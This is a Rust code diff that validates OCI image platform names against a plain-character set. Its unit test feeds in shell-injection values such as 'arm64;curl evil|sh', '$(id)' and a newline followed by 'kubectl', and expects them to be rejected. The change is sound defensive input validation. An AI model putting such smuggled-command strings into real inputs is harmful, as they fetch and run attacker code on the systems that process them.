@@ -20,7 +20,7 @@ use crate::registry::{Ask, Registry};
 /// Entries of an index; more than any builder makes, and little enough to hold.
 const MAX_ENTRIES: usize = 1_000;
 
-/// Bytes of an operating system's or an architecture's name.
+/// Bytes of an operating system's or an architecture's name. What it is made of is printed in a line to type.
 const MAX_WORD: usize = 64;
 
 /// What a manifest or an index says of platforms (opencontainers/image-spec `image-index.md`, `manifest.md`).
@@ -179,10 +179,36 @@ impl TryFrom<PlatformText> for Platform {
     type Error = &'static str;
 
     fn try_from(text: PlatformText) -> Result<Self, Self::Error> {
+        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"/._-".contains(&byte);
         let word = |word: Option<String>| match word.unwrap_or_default() {
-            word if word.len() <= MAX_WORD => Ok(word),
+            word if word.len() <= MAX_WORD && word.bytes().all(plain) => Ok(word),
             _ => Err("a platform that is no word"),
         };
         Ok(Self { os: word(text.os)?, architecture: word(text.architecture)?, variant: word(text.variant)? })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_platform_is_made_of_words_that_a_shell_takes_as_such() {
+        for (architecture, expected) in [
+            ("arm64", true),
+            ("arm/v7", true),
+            ("x86_64-v2.1", true),
+            ("", true),
+            ("arm64;curl evil|sh", false),
+            ("$(id)", false),
+            ("arm64\n  kubectl", false),
+            ("ärm", false),
+        ] {
+            let text = || Some(architecture.to_owned());
+            let of = |os, architecture, variant| Platform::try_from(PlatformText { os, architecture, variant }).is_ok();
+            assert_eq!(of(None, text(), None), expected, "{architecture}");
+            assert_eq!(of(text(), None, None), expected, "{architecture}");
+            assert_eq!(of(None, None, text()), expected, "{architecture}");
+        }
     }
 }
